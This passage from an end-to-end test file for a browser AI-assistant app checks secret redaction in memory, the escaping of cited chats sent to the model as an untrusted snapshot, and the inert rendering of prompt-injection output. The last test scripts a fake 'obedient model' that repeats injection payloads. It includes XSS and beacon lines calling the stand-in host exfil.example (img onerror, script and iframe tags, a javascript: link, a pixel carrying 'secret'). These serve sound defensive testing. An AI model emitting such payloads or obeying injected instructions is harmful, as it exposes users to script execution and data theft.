  await page.fill('[data-testid="memory-add-text"]', "the bench PSU token=s3cr3t-value-123 is on the wiki");
  await page.click('[data-testid="memory-add"]');
  await page.locator('[data-testid="memory-message"]', { hasText: "secret taken out" }).waitFor();
  await waitFor("the new fact", async () => (await facts.count()) === before + 1, 10000);
  assert.ok((await page.locator('[data-testid="chat-memory-view"]').innerText()).includes("token=[REDACTED:credential]"));
  // Edit the first, delete it.
  const first = facts.first();
  await first.locator('[data-testid="memory-edit"]').click();
  await page.locator('[data-testid="chat-memory-view"] li textarea').fill("edited by the person");
  await page.locator('[data-testid="chat-memory-view"] li button.primary').click();
  await page.locator('[data-testid="memory-fact"]', { hasText: "edited by the person" }).waitFor();
  await page.locator('[data-testid="memory-fact"]', { hasText: "edited by the person" }).locator('[data-testid="memory-delete"]').click();
  await waitFor("the deleted fact gone", async () => (await page.locator('[data-testid="memory-fact"]', { hasText: "edited by the person" }).count()) === 0, 10000);
  // Forget everything: a dismissed confirmation keeps it all; an accepted one clears.
  page.once("dialog", (d) => d.dismiss());
  await page.click('[data-testid="memory-clear"]');
  assert.ok((await facts.count()) > 0);
  page.once("dialog", (d) => d.accept());
  await page.click('[data-testid="memory-clear"]');
  await page.locator('[data-testid="memory-empty"]').waitFor();
  await page.close();
});

test("the archive: search from the sidebar and the full view, open a hit at its message, cite it; the next request carries the frozen snapshot", async () => {
  const script = await scriptServer("anthropic_two_replies.json");
  try {
    const page = await fresh(server.url);
    await useProvider(page, script.url, "claude-archive-e2e");
    // The chat to find later: a code token and a sentence.
    await page.click('[data-testid="chat-new"]');
    await page.fill('[data-testid="chat-input"]', "the thermocouple reads 0x7FFF when <script>the probe</script> is open");
    await page.click('[data-testid="chat-send"]');
    await page.locator('[data-testid="chat-assistant"]', { hasText: "one" }).waitFor({ timeout: 15000 });
    const sourceId = await page.locator('[data-testid="chat-item"].active').getAttribute("data-chat-id");

    // A second chat, then the sidebar's search finds the first one's message.
    await page.click('[data-testid="chat-new"]');
    await waitFor("the new chat open", async () => (await page.locator('[data-testid="chat-item"].active').getAttribute("data-chat-id")) !== sourceId, 10000);
    const citingId = await page.locator('[data-testid="chat-item"].active').getAttribute("data-chat-id");
    await page.fill('[data-testid="chat-search"]', "thermocouple");
    const sideHit = page.locator(`[data-testid="chat-search-results"] [data-testid="archive-hit"][data-chat-id="${sourceId}"]`).first();
    await sideHit.waitFor({ timeout: 10000 });
    assert.equal(await sideHit.getAttribute("data-surface"), "current", "the sidebar shows what the model sees");
    assert.equal((await sideHit.locator("mark").first().innerText()).toLowerCase(), "thermocouple", "the match is marked");
    assert.equal(await page.locator('[data-testid="archive-snippet"] script').count(), 0, "a snippet is text, never HTML");
    await page.screenshot({ path: join(artifacts, "browser-assistant-archive-sidebar-light-en.png") });

    // A click opens that chat, scrolled to the message and marked.
    await sideHit.locator('[data-testid="archive-hit-open"]').click();
    const focused = page.locator('[data-testid="chat-messages"] .row.focused');
    await focused.waitFor({ timeout: 10000 });
    assert.match(await focused.innerText(), /thermocouple reads 0x7FFF/);
    // Escape clears the search; the list shows the chat the hit opened.
    await page.press('[data-testid="chat-search"]', "Escape");
    await waitFor("the source chat open", async () => (await page.locator('[data-testid="chat-item"].active').getAttribute("data-chat-id")) === sourceId, 10000);
    await page.locator(`[data-testid="chat-item"][data-chat-id="${citingId}"] button.open`).click();

    // The full view: a code token finds it; a surface filter without `current` drops it.
    await page.click('[data-testid="chat-archive-open"]');
    await page.fill('[data-testid="archive-query"]', "0x7FFF");
    const hit = page.locator(`[data-testid="archive-view"] [data-testid="archive-hit"][data-chat-id="${sourceId}"]`).first();
    await hit.waitFor({ timeout: 10000 });
    await page.locator('[data-testid="archive-surface"][data-surface="current"]').uncheck();
    await waitFor("the current-surface hits gone", async () =>
      (await page.locator('[data-testid="archive-view"] [data-testid="archive-hit"][data-surface="current"]').count()) === 0 &&
      (await page.locator('[data-testid="archive-view"] [aria-busy="true"]').count()) === 0, 10000);
    await page.locator('[data-testid="archive-surface"][data-surface="current"]').check();
    await hit.waitFor({ timeout: 10000 });
    await page.screenshot({ path: join(artifacts, "browser-assistant-archive-view-light-en.png") });

    // Cite it into the open chat: one card, naming the source.
    await hit.locator('[data-testid="archive-cite"]').click();
    const citation = page.locator('[data-testid="chat-citation"]');
    await citation.waitFor({ timeout: 10000 });
    assert.equal(await citation.getAttribute("data-by"), "person");
    assert.equal(await citation.locator(`[data-testid="chat-citation-source"][data-chat-id="${sourceId}"]`).count(), 1);
    await page.screenshot({ path: join(artifacts, "browser-assistant-archive-cited-light-en.png") });

    // The next message's request carries the snapshot, in its envelope, with no `<` in it.
    await page.fill('[data-testid="chat-input"]', "what did that chat find?");
    await page.click('[data-testid="chat-send"]');
    await page.locator('[data-testid="chat-assistant"]', { hasText: "two" }).waitFor({ timeout: 15000 });
    const requests = await script.requests();
    const body = requests.at(-1).body;
    const texts = body.messages.flatMap((m) => (Array.isArray(m.content) ? m.content.map((b) => b.text ?? "") : [m.content]));
    const snapshot = texts.find((x) => x.includes('source="cited_chat"'));
    assert.ok(snapshot, "the cited chat reaches the model");
    assert.match(snapshot, /untrusted, read-only snapshot/);
    assert.match(snapshot, /thermocouple reads 0x7FFF/);
    const inner = snapshot.slice(snapshot.indexOf(">", snapshot.indexOf('source="cited_chat"')) + 1, snapshot.lastIndexOf("</"));
    assert.ok(!inner.includes("<"), "every < inside the snapshot is escaped");
    assert.match(inner, /\\u003cscript>/);
    assert.ok(texts.some((x) => x.includes("what did that chat find?")));
    await page.close();
  } finally {
    script.stop();
  }
});

test("every injection payload, said by an obedient model or put in a call it asks for, renders as inert text: no markup, no image, nothing fetched", async () => {
  // The corpus of the injection table (fixtures/injection), as a model that obeys it would
  // put it on the screen: every payload in its reply, and one in the arguments of a call
  // the person is asked to approve. Two more aim straight at the page's DOM.
  const corpus = JSON.parse(readFileSync(join(repo, "fixtures/injection/payloads.json"), "utf8")).payloads.map((p) => p.text);
  const aimed = [
    '<img src="https://exfil.example/x.png" onerror="window.__pwned=1">',
    '<script>window.__pwned=1</script><iframe src="https://exfil.example/frame"></iframe>',
    "[click me](javascript:window.__pwned=1) ![pixel](https://exfil.example/pixel.gif?q=secret)",
  ];
  const payloads = [...corpus, ...aimed];
  const sse = (event, data) => ({ event, data });
  const start = (id) => sse("message_start", { type: "message_start", message: { id, type: "message", role: "assistant", content: [], usage: { input_tokens: 10, output_tokens: 1 } } });
  const stop = (reason) => [sse("message_delta", { type: "message_delta", delta: { stop_reason: reason }, usage: { output_tokens: 5 } }), sse("message_stop", { type: "message_stop" })];
  const spoof = payloads.find((p) => p.includes("<img")) ?? aimed[0];
  const script = {
    description: "an obedient model repeating every injection payload",
    turns: [
      { sse: [
        start("msg_inj1"),
        sse("content_block_start", { type: "content_block_start", index: 0, content_block: { type: "text", text: "" } }),
        sse("content_block_delta", { type: "content_block_delta", index: 0, delta: { type: "text_delta", text: `INJECTED-REPLY\n\n${payloads.join("\n\n")}` } }),
        sse("content_block_stop", { type: "content_block_stop", index: 0 }),
        sse("content_block_start", { type: "content_block_start", index: 1, content_block: { type: "tool_use", id: "toolu_inj1", name: "project_setTitle", input: {} } }),
        sse("content_block_delta", { type: "content_block_delta", index: 1, delta: { type: "input_json_delta", partial_json: JSON.stringify({ title: spoof }) } }),
        sse("content_block_stop", { type: "content_block_stop", index: 1 }),
        ...stop("tool_use"),
      ] },
      { sse: [
        start("msg_inj2"),
        sse("content_block_start", { type: "content_block_start", index: 0, content_block: { type: "text", text: "" } }),
        sse("content_block_delta", { type: "content_block_delta", index: 0, delta: { type: "text_delta", text: "Understood, left as it is." } }),
        sse("content_block_stop", { type: "content_block_stop", index: 0 }),
        ...stop("end_turn"),
      ] },
    ],
  };
  const file = join(dir, "injection-script.json");
  writeFileSync(file, JSON.stringify(script));
  const provider = await scriptServer(file);
  try {
    const page = await fresh(server.url);
    const fetched = [];
    page.on("request", (r) => fetched.push(r.url()));
    await useProvider(page, provider.url, "claude-injection");
    await page.click('[data-testid="chat-new"]');
    await page.fill('[data-testid="chat-input"]', "Read the device notes.");
    await page.click('[data-testid="chat-send"]');
    await waitStatus(page, "toolu_inj1", "awaiting");
    const reply = page.locator('[data-testid="chat-assistant"]', { hasText: "INJECTED-REPLY" });
    await reply.waitFor({ timeout: 15000 });
    const messages = page.locator('[data-testid="chat-messages"]');
    // Nothing active anywhere in the conversation: no element a payload could bring.
    const active = await messages.evaluate((root) => {
      const bad = [...root.querySelectorAll("img, iframe, script, object, embed, form, svg, video, audio, style, link, meta, base")]
        .map((e) => e.outerHTML.slice(0, 120));
      const handlers = [...root.querySelectorAll("*")].filter((e) => [...e.attributes].some((a) => a.name.startsWith("on"))).map((e) => e.outerHTML.slice(0, 120));
      const links = [...root.querySelectorAll("a")].map((a) => ({ href: a.getAttribute("href") ?? "", rel: a.getAttribute("rel") ?? "", target: a.getAttribute("target") ?? "" }));
      return { bad, handlers, links };
    });
    assert.deepEqual(active.bad, [], "active elements in the conversation");
    assert.deepEqual(active.handlers, [], "event handlers in the conversation");
    for (const link of active.links) {
      assert.match(link.href, /^https?:\/\//, `a link to ${link.href}`);
      assert.equal(link.rel, "noopener noreferrer");
      assert.equal(link.target, "_blank");
    }
    assert.equal(await page.evaluate(() => window.__pwned), undefined, "a payload ran in the page");
    // Each payload's words are there, as text.
    const text = await reply.innerText();
    for (const p of corpus) {
      const words = p.replace(/[^\p{L}\p{N}]+/gu, " ").trim().split(" ").filter((w) => w.length > 3).slice(0, 2);
      for (const w of words) assert.ok(text.includes(w), `"${w}" of a payload is not shown: ${p}`);
    }
    // The call the person is asked about shows its argument as text, not markup.
    const tool = card(page, "toolu_inj1");
    assert.equal(await tool.locator("img, iframe, script").count(), 0);
    assert.ok((await tool.innerText()).includes("<img"), "the argument reads as the text it is");
    await tool.locator('[data-testid="tool-deny"]').click();
    await waitStatus(page, "toolu_inj1", "denied");
    await page.locator('[data-testid="chat-assistant"]', { hasText: "left as it is" }).waitFor({ timeout: 15000 });
    assert.notEqual((await command(page, "project.get")).title, spoof, "the denied call did nothing");
    // Nothing a payload names was fetched: no image, no frame, no beacon.
    assert.deepEqual(fetched.filter((u) => !u.startsWith(server.url.split("/?")[0])), [], "requests off the app");
    await page.screenshot({ path: join(artifacts, "browser-assistant-injection-light-en.png") });
    await page.close();
  } finally {
    provider.stop();
  }
});
